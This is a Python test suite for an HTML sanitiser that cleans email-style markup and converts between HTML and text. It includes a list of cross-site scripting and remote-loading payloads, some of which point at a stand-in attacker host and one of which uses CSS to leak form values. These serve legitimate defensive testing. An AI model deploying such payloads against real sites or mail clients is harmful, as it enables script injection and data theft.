import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from crewdesk.core.html import CleanHtml, clean_html, html_to_text, text_to_html

_ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<iframe src='https://evil.example'></iframe><object data='x'></object><embed src='x'>",
    "<form action='https://evil.example'><input name=password><button formaction=x>Go</button></form>",
    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
    "<p style='background:url(https://evil.example/a);position:fixed'>x</p>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<table background='https://evil.example/a'><td background='https://evil.example/b'>x",
    "<video poster='https://evil.example/a' src='https://evil.example/b'></video><audio src=x>",
    "<picture><source srcset='https://evil.example/a'><img srcset='https://evil.example/b'></picture>",
    "<input type=image src='https://evil.example/a'><body background='https://evil.example/a'>",
    "<div id=location name=cookie class='modal'>x</div>",
    "<!--[if mso]><img src='https://evil.example/a'><![endif]-->",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<img alt='\"><script>alert(1)</script>' src='cid:a\"onerror=\"alert(1)'>",
    "<<img src=https://evil.example/a//>",
    "<a href=//evil.example/x>x</a><img src=//evil.example/x>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>",
)
_LOADING = {
    "src",
    "srcset",
    "background",
    "poster",
    "data",
    "action",
    "formaction",
    "style",
    "class",
    "id",
    "name",
    "ping",
}
_FORBIDDEN = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "link",
    "meta",
    "base",
    "svg",
    "math",
}


class _Audit(HTMLParser):
    def handle_starttag(self, tag, attributes):
        assert tag not in _FORBIDDEN
        for name, value in attributes:
            assert name not in _LOADING
            assert not name.startswith("on")
            assert name != "href" or re.match(r"(https?|mailto|tel|cid):", value)
        if tag == "a":
            assert dict(attributes)["rel"] == "noopener noreferrer nofollow"
            assert dict(attributes)["target"] == "_blank"


def _assert_safe(html: str) -> None:
    audit = _Audit()
    audit.feed(html)
    audit.close()


@pytest.mark.parametrize("attack", _ATTACKS)
def test_criterion_27_nothing_that_runs_or_loads_is_left(attack):
    _assert_safe(clean_html(f"<p>before</p>{attack}<p>after</p>").html)


@given(
    st.lists(
        st.sampled_from([*_ATTACKS, "<p>", "'", '"', ">", "<!--", "-->", "</title>", "<img ", " src=x"]),
        max_size=6,
    )
)
@settings(max_examples=200, deadline=None)
def test_criterion_27_nor_when_attacks_are_joined(pieces):
    _assert_safe(clean_html("".join(pieces)).html)


def test_remote_images_wait_and_inline_ones_are_named():
    found = clean_html('<img src="HTTPS://t.example/a?b=1&amp;c=2" alt="x"><img src="cid:logo@x"><img src="/local">')
    assert found.remote_images == 1
    assert found.html == ('<img alt="x" data-remote-src="HTTPS://t.example/a?b=1&amp;c=2"><img data-cid="logo@x"><img>')


@given(
    st.lists(
        st.sampled_from(
            [*_ATTACKS, '<img alt=1 src="http://a.example/x">', '<img src="cid:cid:y" title=2>', "<img data-cid=z src=q>"]
        ),
        max_size=6,
    )
)
@settings(max_examples=200, deadline=None)
def test_cleaning_what_is_clean_changes_nothing(pieces):
    once = clean_html("".join(pieces))
    assert clean_html(once.html) == once


@pytest.mark.parametrize("source", ["javascript:alert(1)", "//evil.example/x", "data:image/svg+xml;base64,PHN2Zz4=", "x"])
def test_waiting_images_of_strangers_are_believed_only_on_the_web(source):
    assert clean_html(f'<img data-remote-src="{source}">') == CleanHtml("<img>", 0)


def test_text_that_looks_like_an_image_is_left_alone():
    assert clean_html('<p>&lt;img src="https://x.example"&gt;</p>').html == '<p>&lt;img src="https://x.example"&gt;</p>'


def test_ordinary_markup_stays():
    html = '<table><tbody><tr><td colspan="2">a <b>b</b><br>c</td></tr></tbody></table><ul><li>d</li></ul>'
    assert clean_html(html).html == html


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>a</p><p>b &amp; c</p>", "a\n\nb & c"),
        ("<div>a<br>b</div><div>c</div>", "a\nb\nc"),
        ("<ul><li>a<li>b</ul>", "- a\n- b"),
        ("<div>a</div><div><br></div><div>b<br></div>c", "a\n\nb\nc"),
        ("<table><tr><td>a</td><td>b</td></tr></table>", "a b"),
        ("<pre>a\n b</pre>", "a\nb"),
        ("<style>x</style><title>y</title>a&nbsp;&nbsp;b<!-- c -->", "a b"),
        ("a &lt;b&gt; c", "a <b> c"),
    ],
)
def test_html_to_text(html, text):
    assert html_to_text(html) == text


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("a\nb\n\nc", "<p>a<br>b</p><p>c</p>"),
        ("<script>alert(1)</script>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"),
        ("(see https://x.example/a?b=1&c=2).", "<p>(see {https://x.example/a?b=1&amp;c=2}).</p>"),
        ("https://x.example/a_(b)", "<p>{https://x.example/a_(b)}</p>"),
        ("javascript:alert(1)", "<p>javascript:alert(1)</p>"),
    ],
)
def test_text_to_html(text, html):
    linked = re.sub(r"\{(.*?)\}", r'<a href="\1" target="_blank" rel="noopener noreferrer nofollow">\1</a>', html)
    assert text_to_html(text) == linked


def test_mail_addresses_become_links():
    assert '<a href="mailto:ben@harbor.example"' in text_to_html("Write to ben@harbor.example.")


@given(st.text(max_size=300))
@settings(max_examples=200, deadline=None)
def test_any_text_gives_safe_html(text):
    _assert_safe(text_to_html(text))
